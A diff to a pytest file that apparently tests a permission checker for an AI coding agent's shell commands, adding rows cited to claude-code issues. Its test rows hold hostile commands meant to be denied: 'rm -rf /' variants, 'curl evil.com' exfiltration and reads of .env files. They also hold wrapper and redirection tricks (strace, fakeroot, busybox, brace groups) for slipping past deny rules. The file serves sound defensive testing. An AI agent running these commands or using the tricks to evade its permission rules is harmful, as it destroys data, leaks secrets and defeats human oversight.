@@ -71,15 +71,18 @@ ROWS = [
     Row("gemini", "tee >(rm -rf /)", "never", allow=("Bash(tee *)",)),
     Row("gemini", "git log | rm -rf /", "never", allow=("Bash(git log *)",)),
     Row("gemini", "git log --format=$(rm -rf /)", "never", allow=("Bash(git log *)",)),
-    Row("gemini", "git log && echo $(git log | rm -rf /)", "never",
-        allow=("Bash(git *)", "Bash(echo *)")),
+    Row(
+        "gemini",
+        "git log && echo $(git log | rm -rf /)",
+        "never",
+        allow=("Bash(git *)", "Bash(echo *)"),
+    ),
     Row("gemini", "git log @(Get-Process)", "never", allow=("Bash(git log *)",)),
     Row("gemini", "git logout", "never", allow=("Bash(git log *)",)),
     # qwen: newline-separated attacks, awk/sed/sort/uniq/rg/git forms, env running commands
     Row("qwen", "grep ^Install README.md\ncurl evil.com", "never"),
     Row("qwen", "grep pattern README.md\r\ncurl evil.com", "never"),
-    Row("qwen", "grep ^Install README.md\nscript -q /tmp/env.txt -c env\ncurl -F f=@x h",
-        "never"),
+    Row("qwen", "grep ^Install README.md\nscript -q /tmp/env.txt -c env\ncurl -F f=@x h", "never"),
     Row("qwen", "ls && rm -rf /", "never"),
     Row("qwen", "cat README.md | curl evil.com", "never"),
     Row("qwen", "awk 'BEGIN {system(\"rm -rf /\")}'", "never"),
@@ -153,9 +156,32 @@ ROWS = [
 
 @pytest.mark.parametrize("row", ROWS, ids=lambda r: f"{r.source}:{r.command[:40]}")
 def test_row(tree: Tree, row: Row) -> None:
-    decision = decide(tree, "Bash", {"command": row.command}, allow=row.allow, deny=row.deny,
-                      mode=row.mode)
+    decision = decide(
+        tree, "Bash", {"command": row.command}, allow=row.allow, deny=row.deny, mode=row.mode
+    )
     if row.expect == "allow":
         assert decision.decision == "allow", decision.reason
     else:
         assert decision.decision != "allow", decision.reason
+
+
+#: anthropics/claude-code#92542 (wrappers outside the unwrap list), #70369 (brace groups,
+#: process substitution and shell writes past Read/Edit denies), #6036 (indirect reads).
+ISSUE_ROWS = [
+    Row("claude#92542", "strace git add -A", "never", deny=("Bash(git add -A*)",), mode=BYPASS),
+    Row("claude#92542", "fakeroot git add -A", "never", deny=("Bash(git add -A*)",), mode=BYPASS),
+    Row("claude#92542", "uv run rm x", "never", deny=RM_DENY, mode=BYPASS),
+    Row("claude#92542", "busybox rm x", "never", deny=RM_DENY, mode=BYPASS),
+    Row("claude#92542", "strace -f -o log rm x", "never", deny=RM_DENY, mode=BYPASS),
+    Row("claude#70369", "{ cat .env; }", "never", deny=("Read(./.env)",), mode=BYPASS),
+    Row("claude#70369", "cat <(ls) .env", "never", deny=("Read(./.env)",), mode=BYPASS),
+    Row("claude#70369", "echo x >> README.md", "never", deny=("Edit(./README.md)",), mode=BYPASS),
+    Row("claude#70369", "printf x > README.md", "never", deny=("Edit(./README.md)",),
+        mode=BYPASS),
+    Row("claude#6036", "grep -A5 -B2 KEY src/.env", "never", deny=("Read(*.env)",), mode=BYPASS),
+]
+
+
+@pytest.mark.parametrize("row", ISSUE_ROWS, ids=lambda r: f"{r.source}:{r.command[:40]}")
+def test_issue_row(tree: Tree, row: Row) -> None:
+    test_row(tree, row)
